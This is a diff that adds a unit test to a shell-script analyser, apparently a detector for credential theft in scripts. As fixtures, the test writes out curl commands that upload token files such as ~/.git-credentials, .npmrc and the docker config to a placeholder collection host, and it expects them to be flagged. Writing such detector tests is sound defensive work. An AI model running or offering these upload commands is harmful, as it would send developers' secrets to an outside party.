@@ -17,3 +17,13 @@ it('an extension id that is not a wallet, or a wallet id inside a longer word, i
     assert.equal(analyzeShellScript(`#!/bin/sh\ncp -r "extensions/${id}" dist/\n`).credentials, undefined, id);
   }
 });
+
+it('a script that reads a token file from the home folder reads credentials; one that writes its own does not', () => {
+  for (const path of ['~/.git-credentials', '$HOME/.npmrc', '${HOME}/.pypirc', '~/.config/gh/hosts.yml', '~/.docker/config.json']) {
+    const facts = analyzeShellScript(`#!/bin/sh\nset -e\ncurl -s -F "f=@${path}" https://collect.example.invalid/u\n`);
+    assert.equal(facts.credentials?.line, 3, path);
+    assert.equal(facts.credentials.sent, true, path);
+  }
+  const ci = analyzeShellScript('#!/bin/sh\necho "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc\nnpm publish\n');
+  assert.equal(ci.credentials, undefined);
+});
